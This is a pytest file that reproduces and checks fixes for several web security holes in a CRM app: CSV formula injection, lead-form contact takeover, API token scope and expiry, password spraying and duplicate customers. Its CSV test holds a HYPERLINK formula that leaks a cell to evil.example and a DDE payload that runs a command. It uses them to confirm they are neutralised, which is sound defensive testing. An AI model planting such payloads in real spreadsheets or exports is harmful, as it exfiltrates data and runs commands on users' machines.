"""The holes of the web security review (issue 29), each reproduced and shown closed."""

from __future__ import annotations

import csv
import io
import time

import pytest

from crmcore.testing import make_customer

from .conftest import PASSWORD, bearer, login

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&C2,"open")'


# --- hole 2: formula injection in web CSV downloads -----------------------------------------------
@pytest.mark.crm_plugins("pipeline")
def test_report_downloads_quote_formulas(client, users, crm_app):
    from crmcore_pipeline.deals import create_deal

    cid = make_customer(crm_app, HYPERLINK)
    with crm_app.unit_of_work() as uow:
        create_deal(uow, customer=cid, title="@SUM(1+1)*cmd|' /C calc'!A0", amount="1000")
    crm_app.clock.advance(days=30)
    login(client, "viewer")
    download = client.get("/reports/pipeline.stale.csv")
    assert download.status_code == 200
    rows = list(csv.DictReader(io.StringIO(download.text.lstrip("\ufeff"))))
    assert rows[0]["customer"] == "'" + HYPERLINK
    assert rows[0]["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


# --- hole 1: contact takeover through the lead form -----------------------------------------------
def held_lead(client, crm_app, **fields) -> int:
    from sqlalchemy import select

    from crmcore.storage.models import PendingLead

    from .test_public_form import send

    assert send(client, **fields).status_code == 200
    with crm_app.unit_of_work(readonly=True) as uow:
        return uow.session.scalars(select(PendingLead.id).order_by(PendingLead.id.desc())).first()


def contacts(app, cid):
    from crmcore.storage.models import Customer

    with app.unit_of_work(readonly=True) as uow:
        c = uow.session.get(Customer, cid)
        return (
            [p.e164 for p in c.phones],
            [e.email for e in c.emails],
            sorted(t.tag for t in c.tags),
        )


def test_pending_leads_are_accepted_or_rejected_from_the_cli(crm_app_factory, make_client, crm_cli):
    from crmcore.api import hookimpl

    from .test_api import audit

    heard = []

    class Pipeline:
        @hookimpl
        def crm_web_lead_received(self, uow, customer, created, form):
            heard.append((customer.id, created, form["email"]))

    app = crm_app_factory(extra_plugins=[("pipeline_stub", Pipeline(), None)])
    client = make_client(app)
    cid = make_customer(app, "مریم رضایی", phones=["09121234567"])
    first = held_lead(
        client, app, name="مریم", phone="09121234567", email="maryam@example.ir", message="سلام"
    )
    second = held_lead(client, app, name="x", phone="09121234567", email="thief@evil.example")
    assert heard == [] and contacts(app, cid) == (["+989121234567"], [], [])
    listed = crm_cli("customers", "leads", "list", "--json")
    assert listed.exit_code == 0
    assert [(r["id"], r["matched_by"], r["email"], r["customer"]["id"]) for r in listed.json()] == [
        (first, "phone", "maryam@example.ir", cid),
        (second, "phone", "thief@evil.example", cid),
    ]
    text = crm_cli("customers", "leads", "list").stdout
    assert f"matches customer #{cid} مریم رضایی by phone" in text and "{" not in text
    assert crm_cli("customers", "leads", "reject", str(second)).exit_code == 0
    from crmcore.services.leads import accept_lead

    with app.unit_of_work(actor="sara") as uow:  # this app has the plugin listening
        accept_lead(uow, first)
    assert contacts(app, cid) == (["+989121234567"], ["maryam@example.ir"], ["lead"])
    assert heard == [(cid, False, "maryam@example.ir")]
    assert (
        "accepted"
        in crm_cli(
            "customers",
            "leads",
            "accept",
            str(held_lead(client, app, name="x", phone="09121234567", email="maryam@example.ir")),
        ).stdout
    )
    again = crm_cli("customers", "leads", "accept", str(second))
    assert again.exit_code == 1 and "no pending lead" in again.stderr
    assert crm_cli("customers", "leads", "list", "--json").json() == []
    trail = [(actor, action) for actor, action, entity in audit(app) if entity == "pending_lead"]
    assert [action for _actor, action in trail] == [
        "hold",
        "hold",
        "reject",
        "accept",
        "hold",
        "accept",
    ]
    assert trail[0] == ("public-form", "hold") and trail[3] == ("sara", "accept")


def test_pending_leads_are_reviewed_on_a_page_with_csrf(client, users, crm_app):
    cid = make_customer(crm_app, "مریم رضایی", emails=["maryam@example.ir"])
    lead = held_lead(client, crm_app, name="مریم", phone="09121234567", email="maryam@example.ir")
    csrf = login(client, "viewer")
    assert client.get("/leads").status_code == 403
    client.post("/logout", data={"csrf_token": csrf})
    csrf = login(client, "agent")
    page = client.get("/leads")
    assert (
        page.status_code == 200
        and f'data-lead="{lead}"' in page.text
        and "+989121234567" in page.text
    )
    assert client.post(f"/leads/{lead}/accept").status_code == 403  # no CSRF token
    assert contacts(crm_app, cid) == ([], ["maryam@example.ir"], [])
    done = client.post(f"/leads/{lead}/accept", data={"csrf_token": csrf})
    assert done.status_code == 200 and f'data-lead="{lead}"' not in done.text
    assert contacts(crm_app, cid) == (["+989121234567"], ["maryam@example.ir"], ["lead"])
    gone = client.post(f"/leads/{lead}/reject", data={"csrf_token": csrf})
    assert gone.status_code == 422 and "no pending lead" in gone.text


def test_forgetting_a_customer_drops_their_pending_leads(client, crm_app, crm_cli):
    cid = make_customer(crm_app, "مریم رضایی", phones=["09121234567"])
    held_lead(client, crm_app, name="مریم", phone="09121234567", email="maryam@example.ir")
    assert crm_cli("customers", "forget", str(cid), "--yes").exit_code == 0
    assert crm_cli("customers", "leads", "list", "--json").json() == []


# --- hole 3: token scope, expiry, last use, password change ---------------------------------------
def make_token(app, username: str, name: str, level: str, expires=None) -> str:
    from crmcore.web.users import create_token

    with app.unit_of_work(actor="setup") as uow:
        return create_token(uow, username, name, level=level, expires=expires)[1]


def test_a_read_token_neither_makes_nor_revokes_tokens(client, users, crm_app):
    read = make_token(crm_app, "admin", "reporting", "read")
    refused = client.post(
        "/api/tokens", json={"name": "spare", "level": "read"}, headers=bearer(read)
    )
    assert refused.status_code == 403
    assert refused.json()["error"] == (
        "the token 'reporting' has read access; creating or revoking tokens needs "
        "a login or an admin-level token"
    )
    assert client.delete("/api/tokens/tests", headers=bearer(read)).status_code == 403
    assert (
        client.post("/account/tokens", data={"name": "spare"}, headers=bearer(read)).status_code
        == 403
    )
    assert client.post("/account/tokens/tests/revoke", headers=bearer(read)).status_code == 403
    assert client.get("/api/me", headers=bearer(users["admin"])).status_code == 200  # still working
    names = [t["name"] for t in client.get("/api/tokens", headers=bearer(read)).json()]
    assert names == ["tests", "reporting"]
    made = client.post(
        "/api/tokens", json={"name": "spare", "level": "read"}, headers=bearer(users["admin"])
    )
    assert made.status_code == 201 and made.json()["token"].startswith("crm_")
    assert client.delete("/api/tokens/spare", headers=bearer(users["admin"])).status_code == 204


def test_a_refusal_names_the_tokens_level_not_the_users_role(client, users, crm_app):
    read = make_token(crm_app, "admin", "reporting", "read")
    refused = client.post("/api/customers", json={"name": "نگار"}, headers=bearer(read))
    assert refused.status_code == 403
    assert (
        refused.json()["error"]
        == "the token 'reporting' of admin has read access: this needs write access"
    )
    assert "(admin)" not in refused.json()["error"]


def test_tokens_expire(client, users, crm_app, crm_cli):
    week = client.post(
        "/api/tokens", json={"name": "week", "expires": "7d"}, headers=bearer(users["admin"])
    )
    assert week.status_code == 201 and week.json()["expires_at"].startswith("2025-")
    secret = week.json()["token"]
    made = crm_cli("users", "token", "create", "agent", "sync", "--expires", "90d")
    assert made.exit_code == 0 and "until" in made.stderr
    bad = crm_cli("users", "token", "create", "agent", "x", "--expires", "soon")
    assert bad.exit_code == 1 and "field expires" in bad.stderr and "Traceback" not in bad.stderr
    too_long = client.post(
        "/api/tokens", json={"name": "x", "expires": "5000w"}, headers=bearer(users["admin"])
    )
    assert too_long.status_code == 422 and too_long.json()["field"] == "expires"
    assert client.get("/api/me", headers=bearer(secret)).status_code == 200
    crm_app.clock.advance(days=8)
    assert client.get("/api/me", headers=bearer(secret)).status_code == 401
    assert client.get("/api/me", headers=bearer(made.stdout.strip())).status_code == 200
    states = {
        t["name"]: t["state"] for t in crm_cli("users", "token", "list", "admin", "--json").json()
    }
    assert states == {"tests": "active", "week": "expired"}


def test_last_use_is_recorded_and_shown(client, users, crm_app, crm_cli):
    assert crm_cli("users", "token", "list", "agent", "--json").json()[0]["last_used_at"] is None
    assert client.get("/api/me", headers=bearer(users["agent"])).status_code == 200
    [row] = crm_cli("users", "token", "list", "agent", "--json").json()
    assert row["last_used_at"] == crm_app.clock().isoformat()
    text = crm_cli("users", "token", "list", "agent").stdout
    assert "last used never" not in text and "{" not in text
    login(client, "agent")
    assert 'data-token="tests"' in client.get("/account").text


def test_a_new_password_revokes_every_token(client, users, crm_app, crm_cli):
    second = make_token(crm_app, "agent", "second", "read")
    assert client.get("/api/me", headers=bearer(second)).status_code == 200
    changed = crm_cli(
        "users", "passwd", "agent", "--password-stdin", input="another long password\n"
    )
    assert changed.exit_code == 0
    for secret in (users["agent"], second):
        assert client.get("/api/me", headers=bearer(secret)).status_code == 401
    assert client.get("/api/me", headers=bearer(users["viewer"])).status_code == 200
    csrf = login(client, "viewer")
    client.post(
        "/account/password",
        data={"current": PASSWORD, "new": "a brand new password", "csrf_token": csrf},
    )
    assert client.get("/api/me", headers=bearer(users["viewer"])).status_code == 401


def test_every_token_of_a_user_is_revoked_at_once(client, users, crm_app, crm_cli):
    second = make_token(crm_app, "manager", "second", "read")
    done = crm_cli("users", "token", "revoke", "--all", "manager")
    assert done.exit_code == 0 and done.stdout.strip() == "2 tokens of manager revoked"
    for secret in (users["manager"], second):
        assert client.get("/api/me", headers=bearer(secret)).status_code == 401
    assert client.get("/api/me", headers=bearer(users["admin"])).status_code == 200
    both = crm_cli("users", "token", "revoke", "--all", "manager", "second")
    assert both.exit_code == 2 and "not both" in both.stderr


# --- hole 4: password spraying and the CPU cost of password checks -------------------------------
class CountingHasher:
    """The cheap argon2 hasher, counting verifications (optionally slow, to hold a turn)."""

    def __init__(self, delay: float = 0.0):
        from argon2 import PasswordHasher, profiles

        self.inner = PasswordHasher.from_parameters(profiles.CHEAPEST)
        self.delay = delay
        self.verified = 0

    def __getattr__(self, name):
        return getattr(self.inner, name)

    def verify(self, hashed, password):
        import time

        self.verified += 1
        time.sleep(self.delay)
        return self.inner.verify(hashed, password)


def try_login(client, username: str, password: str = "wrong password!"):
    from crmcore.testing.web import form_token

    token = form_token(client.get("/login").text)
    return client.post(
        "/login", data={"username": username, "password": password, "form_token": token}
    )


def test_one_address_cannot_spray_passwords_over_many_usernames(
    crm_app, users, make_client, web_settings, monkeypatch
):
    import attrs

    hasher = CountingHasher()
    monkeypatch.setattr("crmcore.web.users._hasher", lambda: hasher)
    client = make_client(crm_app, attrs.evolve(web_settings, login_address_rate="6/10 minutes"))
    codes = [try_login(client, f"user{i}").status_code for i in range(10)]
    assert codes == [401] * 6 + [429] * 4
    assert hasher.verified == 6  # refused attempts cost no hashing
    assert (
        try_login(client, "admin", PASSWORD).status_code == 429
    )  # the address is stopped, whoever it names


def test_the_address_limit_is_a_setting():
    from crmcore.web.settings import WebSettings

    assert WebSettings.from_env({}).login_address_rate == "30/10 minutes"
    custom = WebSettings.from_env(
        {"CRM_WEB_LOGIN_ADDRESS_RATE": "100/hour", "CRM_WEB_HASH_CONCURRENCY": "4"}
    )
    assert (custom.login_address_rate, custom.hash_concurrency) == ("100/hour", 4)


def test_password_checks_beyond_the_cap_wait_then_get_503_without_hashing(
    crm_app, users, make_client, web_settings, monkeypatch
):
    from concurrent.futures import ThreadPoolExecutor

    import attrs

    hasher = CountingHasher(delay=1.0)
    monkeypatch.setattr("crmcore.web.users._hasher", lambda: hasher)
    settings = attrs.evolve(web_settings, hash_concurrency=1, hash_wait=0.1, login_rate="50/minute")
    clients = [make_client(crm_app, settings)]
    app = clients[0].app
    from starlette.testclient import TestClient

    clients += [
        TestClient(app, base_url="http://testserver") for _ in range(2)
    ]  # one application, one gate
    tokens = [c.get("/login").text for c in clients]
    from crmcore.testing.web import form_token

    def post(i):
        return clients[i].post(
            "/login",
            data={
                "username": "admin",
                "password": "wrong password!",
                "form_token": form_token(tokens[i]),
            },
        )

    gate = app.state.web.hashing
    with ThreadPoolExecutor(3) as pool:
        first = pool.submit(post, 0)
        deadline = time.monotonic() + 5
        while gate.running == 0 and time.monotonic() < deadline:  # the first check holds the turn
            time.sleep(0.01)
        others = [pool.submit(post, i) for i in (1, 2)]
        responses = [first.result(), *(o.result() for o in others)]
    assert [r.status_code for r in responses] == [401, 503, 503]
    assert hasher.verified == 1
    assert next(r for r in responses if r.status_code == 503).headers["retry-after"] == "5"
    assert app.state.web.hashing.running == 0
    hasher.delay = 0
    assert try_login(clients[0], "admin", PASSWORD).status_code == 200  # turns are given back


# --- hole 6: silent duplicates through the API ----------------------------------------------------
def test_the_api_refuses_a_customer_whose_phone_or_email_is_stored(client, users, crm_app):
    from .test_api import count_customers

    h = bearer(users["agent"])
    cid = make_customer(
        crm_app, "مریم رضایی", phones=["09121234567"], emails=["maryam@example.ir"], city="تهران"
    )
    by_phone = client.post(
        "/api/customers", json={"name": "Maryam", "phones": ["+98 912 123 4567"]}, headers=h
    )
    assert by_phone.status_code == 409
    assert by_phone.json() == {
        "error": f"customer {cid} (مریم رضایی) already has the phone +989121234567; send "
        "on_duplicate=merge to add to them or on_duplicate=create for a second "
        "customer",
        "field": "phones",
    }
    by_email = client.post(
        "/api/customers", json={"name": "M", "emails": ["MARYAM@example.ir"]}, headers=h
    )
    assert (
        by_email.status_code == 409 and f"customer {cid} (مریم رضایی)" in by_email.json()["error"]
    )
    assert count_customers(crm_app) == 1

    merged = client.post(
        "/api/customers",
        params={"on_duplicate": "merge"},
        headers=h,
        json={
            "name": "Maryam R",
            "phones": ["09121234567", "09350001122"],
            "city": "شیراز",
            "address": "خیابان زند",
            "tags": ["vip"],
        },
    )
    assert merged.status_code == 200
    body = merged.json()
    assert (
        body["id"] == cid and body["name"] == "مریم رضایی" and body["city"] == "تهران"
    )  # nothing overwritten
    assert [p["e164"] for p in body["phones"]] == ["+989121234567", "+989350001122"]
    assert body["address"] == "خیابان زند" and body["tags"] == ["vip"]
    assert count_customers(crm_app) == 1

    second = client.post(
        "/api/customers",
        params={"on_duplicate": "create"},
        headers=h,
        json={"name": "مریم رضایی", "phones": ["09121234567"]},
    )
    assert second.status_code == 201 and second.json()["id"] != cid
    assert count_customers(crm_app) == 2
    bad = client.post(
        "/api/customers", params={"on_duplicate": "ignore"}, json={"name": "x"}, headers=h
    )
    assert bad.status_code == 422 and bad.json()["field"] == "on_duplicate"
    fresh = client.post(
        "/api/customers", json={"name": "نگار", "phones": ["09190000000"]}, headers=h
    )
    assert fresh.status_code == 201


def test_contacts_of_two_customers_are_not_merged_silently(client, users, crm_app):
    h = bearer(users["agent"])
    one = make_customer(crm_app, "یک", phones=["09121234567"])
    two = make_customer(crm_app, "دو", emails=["two@example.ir"])
    both = client.post(
        "/api/customers",
        params={"on_duplicate": "merge"},
        headers=h,
        json={"name": "x", "phones": ["09121234567"], "emails": ["two@example.ir"]},
    )
    assert both.status_code == 409 and f"({one}, {two})" in both.json()["error"]


# --- hole 7: the smaller items --------------------------------------------------------------------
def test_hsts_is_sent_with_secure_cookies_only(crm_app, make_client, web_settings):
    import attrs

    plain = make_client(crm_app).get("/login")
    assert "strict-transport-security" not in plain.headers
    secure = make_client(crm_app, attrs.evolve(web_settings, secure_cookies=True))
    for path in ("/login", "/forms/lead", "/static/app.css", "/api/me"):
        assert secure.get(path).headers["strict-transport-security"] == "max-age=31536000", path
